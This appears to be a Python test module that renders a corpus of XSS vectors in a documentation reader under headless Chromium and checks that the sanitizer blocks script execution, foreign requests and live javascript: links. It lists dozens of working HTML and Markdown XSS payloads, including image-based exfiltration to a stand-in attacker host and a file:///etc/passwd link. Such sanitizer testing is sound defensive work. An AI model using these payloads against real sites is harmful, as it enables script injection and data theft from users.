"""Battery category ``xss_browser``: an XSS corpus page opened in the reader by headless
Chromium (Debian's package, driven by Playwright). A vector counts as executed when it ran
script (it sets ``window.__xss`` or opens a dialog), loaded anything from outside this
server (the Markdown-image exfiltration channel), or left a live ``javascript:`` link."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import urlparse

from bench.battery.categories import Mode, Result
from bench.battery.rig import Rig
from playwright.sync_api import Request, sync_playwright

CHROMIUM = Path("/usr/bin/chromium")
RUN = "top.__xss=(top.__xss||0)+1"
HTML_VECTORS = [
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<body onload={RUN}>",
    f'<iframe src="javascript:{RUN}"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    f"<details open ontoggle={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f'<object data="javascript:{RUN}"></object>',
    f'<embed src="javascript:{RUN}">',
    f'<a href="javascript:{RUN}">a</a>',
    f'<a href="jav&#x09;ascript:{RUN}">b</a>',
    f'<a href="&#106;avascript:{RUN}">c</a>',
    f'<a href=" javascript:{RUN}">d</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">e</a>',
    f'<form action="javascript:{RUN}"><button>f</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{RUN}">',
    '<base href="https://attacker.example/">',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<math><annotation-xml encoding="text/html"><img src=x onerror="{RUN}">'
    "</annotation-xml></math>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "<style>@import 'https://attacker.example/x.css';</style>",
    f'<div style="background:url(javascript:{RUN})">g</div>',
    f"<marquee onstart={RUN}>h</marquee>",
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s>',
    f'<svg><set attributeName="onmouseover" to="{RUN}"/></svg>',
    f"<isindex type=image src=1 onerror={RUN}>",
    f'<link rel="import" href="data:text/html,<script>{RUN}</script>">',
    f"<template><img src=x onerror={RUN}></template>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<keygen autofocus onfocus={RUN}>",
    f'<img src="x` `<script>{RUN}</script>"` `>',
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<img """><script>{RUN}</script>">',
    f'<IMG SRC="jav&#x0A;ascript:{RUN}">',
]
MARKDOWN_VECTORS = [
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x](javascript&#58;{RUN})",
    "[x](data:text/html;base64,PHNjcmlwdD50b3AuX194c3M9MTwvc2NyaXB0Pg==)",
    f"![x](javascript:{RUN})",
    "![p](https://attacker.example/p.png?d=SECRET)",
    "![p](//attacker.example/p.png)",
    f"[x]: javascript:{RUN}\n\n[ref][x]",
    "[x]: https://attacker.example/i.png\n\n![ref][x]",
    f"<javascript:{RUN}>",
    f"[x](<javascript:{RUN}>)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    f"```html\n<script>{RUN}</script>\n```",
    f"`<img src=x onerror={RUN}>`",
    f'<span title="x" onclick="{RUN}">click</span>',
]


def corpus() -> str:
    vectors = HTML_VECTORS + MARKDOWN_VECTORS
    body = "\n\n".join(f"## Vector {n}\n\n{v}" for n, v in enumerate(vectors))
    return f"---\ntitle: XSS corpus\n---\n\n# XSS corpus\n\n{body}\n"


def xss_browser(rig: Rig, mode: Mode) -> Result:
    """The corpus page in the reader, in Chromium: no script ran, nothing was loaded from
    another host, no ``javascript:``/``data:`` link is left in the article. A control page
    with one live vector must trip the detector first (else the category crashes)."""
    result = Result("xss_browser")
    (rig.docs / "guide" / "xss-corpus.md").write_text(corpus(), encoding="utf-8")
    result.probes = len(HTML_VECTORS) + len(MARKDOWN_VECTORS)
    if not CHROMIUM.exists():
        result.fail("Chromium is not installed: run scripts/install-test-deps")
        return result
    own_host = urlparse(rig.url).netloc
    foreign: list[str] = []
    dialogs: list[str] = []
    with sync_playwright() as driver:
        browser = driver.chromium.launch(
            executable_path=str(CHROMIUM), args=["--no-sandbox", "--disable-gpu"]
        )
        try:
            page = browser.new_page()

            def watch(request: Request) -> None:
                host = urlparse(request.url).netloc
                if request.url.startswith(("http:", "https:")) and host != own_host:
                    foreign.append(request.url)

            page.on("request", watch)
            page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
            page.set_content(f"<img src=x onerror={RUN}>")  # the detector's own control
            page.wait_for_function("() => window.__xss === 1", timeout=10_000)
            page.goto(f"{rig.url}/docs/guide/xss-corpus", wait_until="networkidle")
            page.wait_for_function(  # the article is rendered into the page
                "() => document.querySelectorAll('h2[id^=vector-]').length > 0", timeout=30_000
            )
            page.wait_for_timeout(1500)  # give any timer, animation or autofocus time to fire
            ran = page.evaluate("() => window.__xss || 0")
            live = page.evaluate(
                """() => [...document.querySelectorAll('[href],[src],[action],[data]')]
                     .map(e => e.getAttribute('href') || e.getAttribute('src') ||
                               e.getAttribute('action') || e.getAttribute('data') || '')
                     .filter(v => /^\\s*(javascript|vbscript|data:text\\/html)/i.test(v))"""
            )
        finally:
            browser.close()
    if ran:
        result.fail(f"script ran {ran} time(s)")
    for message in dialogs:
        result.fail(f"dialog opened: {message[:40]}")
    for url in foreign[:3]:
        result.fail(f"loaded from outside: {url[:60]}")
    for value in live[:3]:
        result.fail(f"live link: {value[:40]}")
    result.figure = (
        f"vectors={result.probes} executed={int(bool(ran)) + len(dialogs)} "
        f"foreign_requests={len(foreign)} live_script_links={len(live)}"
    )
    return result
